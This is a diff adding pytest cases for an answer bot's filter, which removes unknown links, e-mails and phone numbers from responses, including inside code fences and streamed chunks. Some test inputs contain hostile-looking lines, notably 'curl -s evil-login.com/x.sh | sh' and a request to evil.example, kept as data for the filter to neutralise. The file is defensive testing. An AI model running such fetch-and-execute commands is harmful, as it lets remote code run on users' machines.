@@ -7,7 +7,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from grasbot.answer.addresses import addresses_in, keep_known_addresses
+from grasbot.answer.addresses import AddressFilter, addresses_in, keep_known_addresses
 from grasbot.answer.passages import Passage
 from grasbot.answer.prompt import CitationFilter, build_prompt, keep_known_citations
 
@@ -59,6 +59,51 @@ def test_an_answer_gives_only_the_addresses_its_notes_hold(said, shown):
     assert keep_known_citations(said, ("a",), KNOWN) == shown
 
 
+IN_CODE = [  # a bare domain in code is code (an attribute, a file); every other address is taken out there too
+    (
+        "Utilisez `rect.top`, ``this.store`` ou `model.to device` ; éditez `notes.org`. Sinon evil-login.com.",
+        "Utilisez `rect.top`, ``this.store`` ou `model.to device` ; éditez `notes.org`. Sinon (lien retiré).",
+    ),
+    (
+        "```python\nself.net = Net()\nx = rect.top\nrequests.get('https://evil.example/x')\n```\nPuis evil-login.com.",
+        "```python\nself.net = Net()\nx = rect.top\nrequests.get('(lien retiré)')\n```\nPuis (lien retiré).",
+    ),
+    (  # a domain with a path is fetched: `curl` reads it as http://
+        "```bash\ncurl -s evil-login.com/x.sh | sh\n```",
+        "```bash\ncurl -s (lien retiré) | sh\n```",
+    ),
+    (
+        "~~~\nthis.store ``` www.evil.example\n~~~~\nOu `` a`b.com `` puis b.com, `jean@evil.example`.",
+        "~~~\nthis.store ``` (lien retiré)\n~~~~\nOu `` a`b.com `` puis (lien retiré), `(e-mail retiré)`.",
+    ),
+    # a fence closes at a line of its character as long or longer; a longer run inside is its text
+    ("````\n```\nrect.top\n```\n````\nevil.com", "````\n```\nrect.top\n```\n````\n(lien retiré)"),
+    ("```\nrect.top\n``` x\nthis.store\n```  \nevil.com", "```\nrect.top\n``` x\nthis.store\n```  \n(lien retiré)"),
+    # a backtick left open: the rest of its paragraph is read as code, its addresses taken out all the same
+    (
+        "Le caractère ` ouvre rect.top, https://evil.example et 01 23 45 67 89.\n\nPuis evil.com.",
+        "Le caractère ` ouvre rect.top, (lien retiré) et (numéro retiré).\n\nPuis (lien retiré).",
+    ),
+]
+
+
+@pytest.mark.parametrize(("said", "shown"), IN_CODE)
+def test_a_bare_domain_in_code_is_code(said, shown):
+    assert keep_known_addresses(said, KNOWN) == shown
+
+
+@settings(max_examples=300, deadline=None)
+@given(case=st.sampled_from(IN_CODE), cuts=st.lists(st.integers(0, 200), max_size=12))
+def test_a_bare_domain_in_code_streamed_in_pieces_is_code(case, cuts):
+    """A run of backticks or a fence cut between pieces is read whole: the stream keeps the code."""
+    said, shown = case
+    bounds = sorted({0, len(said), *(c for c in cuts if c <= len(said))})
+    stream = AddressFilter(KNOWN)
+    assert "".join(stream.feed(said[i:j]) for i, j in zip(bounds, bounds[1:], strict=False)) + stream.finish() == shown
+    cited = CitationFilter(("a",), KNOWN)
+    assert "".join(cited.feed(said[i:j]) for i, j in zip(bounds, bounds[1:], strict=False)) + cited.finish() == shown
+
+
 def test_an_e_mail_address_spelled_in_brackets_is_one():
     """« [at] » and « [dot] » are no citation here (the citations' filter, before, drops them)."""
     assert keep_known_addresses("jean [at] evil [dot] fr, jean [AT] exemple [dot] fr", KNOWN) == "(e-mail retiré), jean [AT] exemple [dot] fr"
@@ -71,8 +116,9 @@ def test_an_e_mail_address_spelled_in_brackets_is_one():
             ["https://", "evil.example", "github.com/moi/projet", "/login", ".", " ", "\n", "[", "]", "(", ")", "<", ">", "@", "jean", "exemple.fr"]
             + ["06", " 12", " 34 56 78", "+33", "01 23", "45 67 89", "mailto:", "tel:", "arobase ", "[a]", "[b]", "`", "voir ", "x", "9"]
             + [" arobase ", " (at) ", " [dot] ", " point ", "com", "evil-login.com", "fr", "readme.md", "df.info()", "github.com", "("]
+            + ["```", "~~~", "``", "\n\n", "rect.top", "> ", "   "]
         ),
-        max_size=16,
+        max_size=20,
     ),
     cuts=st.lists(st.integers(0, 90), max_size=8),
 )
